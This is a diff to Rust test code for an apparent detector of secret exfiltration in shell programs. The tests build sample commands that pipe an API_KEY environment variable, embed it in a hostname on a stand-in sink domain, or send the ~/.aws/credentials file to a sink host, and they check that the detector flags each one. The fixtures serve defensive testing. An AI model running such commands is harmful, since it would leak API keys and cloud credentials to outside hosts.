@@ -73,7 +73,7 @@ fn is_sink_reached(language: Language, row: &Row) -> bool {
             };
             vec![match arg.as_str() {
                 Some("stdin") => format!("printenv API_KEY | {name} {host}\n"),
-                Some("operands") => format!("{name} \"$API_KEY.sink.example.net\"\n"),
+                Some("operands") => format!("{name} \"$API_KEY.sink.example.net\"\n{name} \"$API_KEY\" {host}:/x\n"),
                 Some(option) => format!("{name} {option} \"$API_KEY\" {host}\n"),
                 None => String::new(),
             }]
@@ -287,7 +287,13 @@ fn files_that_options_name_are_read() {
     for row in rows(Shell, "program") {
         let behind_at = row.at_files.iter().map(|option| (option, "@"));
         for (option, at) in row.files.iter().map(|option| (option, "")).chain(behind_at) {
-            let program = format!("to={SINK}\n{} {option} {at}/home/me/.aws/credentials \"$to\"\n", command(&row.api));
+            // Operands are named by no option.
+            let (option, last) = match option.as_str() {
+                "operands" => ("", "\"$to\""),
+                "last" => ("\"$to\"", ""),
+                option => (option, "\"$to\""),
+            };
+            let program = format!("to={SINK}\n{} {option} {at}/home/me/.aws/credentials {last}\n", command(&row.api));
             let is_sent = |hit: &Hit| hit.labels.iter().any(|class| class == "file");
             assert!(Shell.hits(&program).iter().any(is_sent), "{program}");
         }
